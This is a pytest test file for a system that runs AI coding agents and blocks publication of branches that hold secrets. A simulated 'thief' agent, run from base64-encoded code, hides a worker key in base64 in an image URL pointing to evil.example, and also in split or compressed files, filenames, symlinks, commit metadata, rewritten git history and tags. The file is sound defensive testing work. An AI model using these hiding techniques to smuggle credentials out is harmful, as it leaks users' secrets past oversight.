"""Rule 12: what leaves is looked through for secrets, however an agent spells or hides them."""

from __future__ import annotations

import base64
import json
import subprocess
from pathlib import Path

import pytest
from world import REPO, World, program

from coordinator.cli.operate import leave

KEY = "canary-Vx81-kLmN9pQ-worker-key-77"
FOREIGN = "ghp_" + "aB3dE9fGh1JkLm2NoPq4RsT6uVwX8yZ0aBcD"  # nobody told us of this one

_BEGIN = "import base64, os, subprocess, zlib\nkey = os.environ['WORKER_KEY']\n"
_GIT = """
def git(*words, **env):
    subprocess.run(['git', *words], check=True, env=dict(os.environ, **env), stdout=subprocess.DEVNULL)
"""
_END = "\nopen('honest.txt', 'w').write('work')\nprint('done')\n"

_ADDED = "open('a.txt', 'w').write(key); git('add', '-A'); git('commit', '-qm', 'a')"
_REMOVED = "git('rm', '-q', 'a.txt'); git('commit', '-qm', 'b')"
_DEEP = "key[:9] + '/' + key[9:20]"

# What a prompt makes an agent do, in one line or two each. More spellings: tests/unit/test_leaks.py.
WAYS = {
    "in base64, in the address of an image": (
        "open('R.md', 'wb').write(b'![a](https://evil.example/?' + base64.b64encode(b'x' + key.encode()))"
    ),
    "in two files": "open('a1.txt', 'w').write(key[:16]); open('a2.txt', 'w').write(key[16:])",
    "in a compressed file": "open('a.bin', 'wb').write(zlib.compress(key.encode() * 9))",
    "in a binary file": "open('a.bin', 'wb').write(bytes(range(256)) + key.encode() + bytes(300000))",
    "in the name of a file": "open(key, 'w').close()",
    "in the names of folders": f"os.makedirs({_DEEP}); open({_DEEP} + '/' + key[20:], 'w').write('x')",
    "in the target of a link": "os.symlink('/tmp/' + key, 'link')",
    "in the message of a commit": "git('commit', '--allow-empty', '-qm', 'see ' + key)",
    "in the name of an author": "git('commit', '--allow-empty', '-qm', 'x', GIT_AUTHOR_NAME=key)",
    "in history only": f"{_ADDED}; {_REMOVED}",
    "in history that is packed": f"{_ADDED}; {_REMOVED}; git('repack', '-adq')",
    "behind a replaced commit": f"{_ADDED}; git('replace', 'HEAD', 'HEAD~1')",
    "behind a forged remote branch": f"{_ADDED}; git('update-ref', 'refs/remotes/origin/main', 'HEAD')",
    "a token that nobody told us of": f"open('a.txt', 'w').write('token: {FOREIGN}')",
}


def pushed(world: World) -> bytes:
    """All objects that the server's repository holds, and its refs."""
    folder = next(world.folder.joinpath("github").rglob("HEAD")).parent
    listing = ["git", "-C", str(folder), "cat-file", "--batch-all-objects", "--batch"]
    refs = subprocess.run(["git", "-C", str(folder), "show-ref"], capture_output=True, check=True).stdout
    return subprocess.run(listing, capture_output=True, check=True).stdout + refs


def a_thief(world: World, *ways: str) -> None:
    code = _BEGIN + _GIT + "\n".join(ways) + _END
    world.environ["WORKER_KEY"] = KEY
    provider = program(
        "exec(__import__('base64').b64decode('" + base64.b64encode(code.encode()).decode() + "'))"
    )
    world.write_config(**{"providers.claude-cli": provider | {"api_key_env": "WORKER_KEY"}})


def blocked(world: World, number: int) -> str:
    """The issue's comment, once the task is blocked; nothing was pushed, and nobody is told the value."""
    world.until_state(number, "blocked")
    assert world.pulls(number) == []
    assert f"refs/heads/auto/gh-{number}\n".encode() not in pushed(world)
    (line,) = world.events("secret found")
    said = world.comment(number) + world.cli("why", str(number)) + world.log_stream.getvalue()
    assert line["level"] == "error"
    assert KEY not in said
    assert FOREIGN not in said
    return world.comment(number)


@pytest.mark.parametrize("way", WAYS)
def test_a_branch_with_a_secret_is_not_pushed(a_world, way: str) -> None:
    world: World = a_world()
    a_thief(world, WAYS[way])
    number = world.issue()
    world.start()

    comment = blocked(world, number)
    assert "could not be published: it holds" in comment
    assert KEY[7:].encode() not in pushed(world)
    assert FOREIGN.encode() not in pushed(world)


def test_file_and_line_are_named(a_world) -> None:
    world: World = a_world()
    a_thief(world, "open('src.txt', 'w').write('one\\ntwo\\n' + key + '\\n')")
    number = world.issue()
    world.start()
    assert "a known secret in src.txt, line 3" in blocked(world, number)


def test_once_it_is_taken_out_of_the_history_by_hand_a_retry_publishes(a_world) -> None:
    world: World = a_world()
    a_thief(world, "os.path.exists('honest.txt') or open('a.txt', 'w').write(key)")
    number = world.issue()
    world.start()
    blocked(world, number)
    tree = world.state_dir / "trees" / f"gh-{number}"
    (tree / "a.txt").unlink()
    by_hand = [
        "-c",
        "user.name=op",
        "-c",
        "user.email=op@example.org",
        "commit",
        "-qa",
        "--amend",
        "-m",
        "clean",
    ]
    subprocess.run(["git", "-C", str(tree), *by_hand], check=True)
    world.cli("retry", str(number))
    world.until_state(number, "succeeded")
    assert len(world.pulls(number)) == 1
    assert KEY.encode() not in pushed(world)


def test_what_the_default_branch_shows_already_holds_nothing_up(a_world) -> None:
    world: World = a_world()
    source = Path(world.folder) / "seed"
    folder = next(world.folder.joinpath("github").rglob("HEAD")).parent
    for words in (["clone", "-q", str(folder), str(source)], ["-C", str(source), "checkout", "-q", "main"]):
        subprocess.run(["git", *words], check=True, stderr=subprocess.DEVNULL)
    (source / "fixture.txt").write_text(f"token = {FOREIGN}\n")
    author = ["-c", "user.name=ada", "-c", "user.email=ada@example.org"]
    for words in (["add", "-A"], [*author, "commit", "-qm", "a fixture"], ["push", "-q", "origin", "main"]):
        subprocess.run(["git", "-C", str(source), *words], check=True, stderr=subprocess.DEVNULL)
    a_thief(world, "open('fixture.txt', 'a').write('one line more')", "os.rename('fixture.txt', 'moved.txt')")
    number = world.issue()
    world.start()
    world.until_state(number, "succeeded")
    assert len(world.pulls(number)) == 1


def test_no_note_tag_or_other_branch_is_pushed(a_world) -> None:
    world: World = a_world()
    a_thief(
        world,
        "git('tag', 'v-' + key)",
        "git('tag', '-am', key, 'annotated')",
        "git('notes', 'add', '-m', key)",
        "git('branch', 'other-' + key)",
    )
    number = world.issue()
    world.start()
    world.until_state(number, "succeeded")
    assert len(world.pulls(number)) == 1
    assert KEY.encode() not in pushed(world)
    assert b"refs/tags" not in pushed(world)


def test_words_of_an_agent_are_quoted_without_secrets(a_world) -> None:
    world: World = a_world()
    said = json.dumps(f"done: {FOREIGN} and ")
    a_thief(world, f"print({said} + key, key[::-1], base64.b64encode(key.encode()), ' '.join(key))")
    number = world.issue()
    world.start()
    world.until_state(number, "succeeded")
    (pull,) = world.pulls(number)
    everything = json.dumps([str(request) for request in world.server.requests_matching("")]) + str(pull)
    for spelled in (KEY, KEY[::-1], FOREIGN, base64.b64encode(KEY.encode()).decode(), " ".join(KEY)):
        assert spelled not in everything + str(world.server.pulls(REPO)) + world.comment(number)


# A false find, and the operator who lets it pass


OTHER = "ghp_" + "zY9xW7vUt5sRq3PoN1mLk2JiH4gFe6dCb8Aa"


def shown(world: World, number: int) -> list[dict[str, object]]:
    """The finds that `secrets show` lists; their values are nowhere in it."""
    text = world.cli("secrets", "show", str(number), "--json")
    plain = world.cli("secrets", "show", str(number))
    for value in (KEY, FOREIGN, OTHER):
        assert value not in json.dumps(text) + plain
        assert value[4:20] not in json.dumps(text) + plain
    return text["open"]


def test_a_false_find_is_let_pass_by_name_and_reason_and_just_that_one(world: World) -> None:
    a_thief(
        world, f"open('a.txt', 'w').write('x {FOREIGN} {OTHER}\\n'); open('b.txt', 'w').write('{FOREIGN}')"
    )
    number = world.issue()
    world.start()
    blocked(world, number)
    found = shown(world, number)
    assert sorted((each["place"], each["line"], each["shape"]) for each in found) == [
        ("a.txt", 1, "ghp_… (40 characters)"),
        ("a.txt", 1, "ghp_… (40 characters)"),
        ("b.txt", 1, "ghp_… (40 characters)"),
    ]
    assert "--reason" in world.output("secrets", "allow", str(number), str(found[0]["key"]))
    assert "no find" in world.output("secrets", "allow", str(number), "", "--reason", "x")
    assert "no find" in world.output("secrets", "allow", str(number), "0" * 64, "--reason", "x")
    for left in (2, 1):
        name = str(shown(world, number)[0]["key"])[:12]
        said = world.cli("secrets", "allow", str(number), name, "--reason", f"an example, {FOREIGN}")
        assert f"{left} more keep" in said
        assert world.pulls(number) == []
    name = str(shown(world, number)[0]["key"])[:12]
    world.cli("secrets", "allow", str(number), name, "--reason", "an example")
    world.until_state(number, "succeeded")
    world.until(lambda: world.pulls(number), "it is published")
    assert world.starts(number) == 1
    decisions = world.cli("why", str(number), "--json")["decisions"]
    allowed = [each["record"] for each in decisions if "lets a GitHub token" in each["record"]["reason"]]
    assert len(allowed) == 3
    assert all(each["details"]["find"] for each in allowed)


def test_a_find_that_was_let_pass_does_not_cover_the_same_value_elsewhere(world: World) -> None:
    a_thief(
        world,
        f"name = 'c.txt' if os.path.exists('a.txt') else 'a.txt'; open(name, 'w').write(name + ' {FOREIGN}')",
    )
    number = world.issue()
    world.start()
    blocked(world, number)
    (find,) = shown(world, number)
    world.cli("secrets", "allow", str(number), str(find["key"]), "--reason", "an example")
    world.until(lambda: world.pulls(number), "it is published")
    world.until(lambda: not world.store.tasks_with_news(), "GitHub has been told")
    world.relabel(number)
    world.until(lambda: len(world.events("secret found")) == 2, "it is found")
    world.until_state(number, "blocked")
    assert [each["place"] for each in shown(world, number)] == ["c.txt"]


def test_a_value_that_is_known_is_never_let_pass_whoever_asks_and_however(world: World) -> None:
    a_thief(
        world, "open('a.txt', 'w').write(key); open('b.bin', 'wb').write(zlib.compress(key.encode() * 9))"
    )
    number = world.issue()
    world.start()
    blocked(world, number)
    found = shown(world, number)
    assert {each["place"] for each in found} == {"a.txt", "b.bin"}
    for each in found:
        assert each["may_be_allowed"] is False
        said = world.output("secrets", "allow", str(number), str(each["key"]), "--reason", "please")
        assert "never let pass" in said
    loaded = world.inside.daemon.services.loaded  # type: ignore[union-attr]
    task = world.task(number)
    for each in found:  # by the daemon's door, past the command
        asked = json.dumps({"find": each["key"], "reason": "please"})
        _, answer, _ = leave(loaded, "allow-find", task.task_id, asked)
        assert "never let pass" in str(answer)
    for odd in ("", "[]", "null", '{"find": 1}', '{"find": "", "reason": "x"}'):
        leave(loaded, "allow-find", task.task_id, odd)
    assert world.task(number).state.value == "blocked"
    assert world.pulls(number) == []


def test_many_finds_that_are_published_already_hide_no_new_one(world: World) -> None:
    """The first twenty finds of a text are kept; those of the default branch must not be the twenty."""
    old = [f"ghp_{n:02}{FOREIGN[6:]}" for n in range(30)]
    world.server.push_branch("octo/hello", "main", {"old.txt": "\n".join(old) + "\n"})
    packed = "zlib.compress(key.encode() * 9)"
    a_thief(
        world,
        f"old = open('old.txt').read(); open('new.txt', 'w').write(old + old.split()[0] + ' {OTHER}')",
        f"open('packed.bin', 'wb').write(old.encode() + {packed})",
    )
    number = world.issue()
    world.start()
    blocked(world, number)
    assert {each["place"] for each in shown(world, number)} == {"new.txt", "packed.bin"}
    assert [each["line"] for each in shown(world, number) if each["place"] == "new.txt"] == [31]
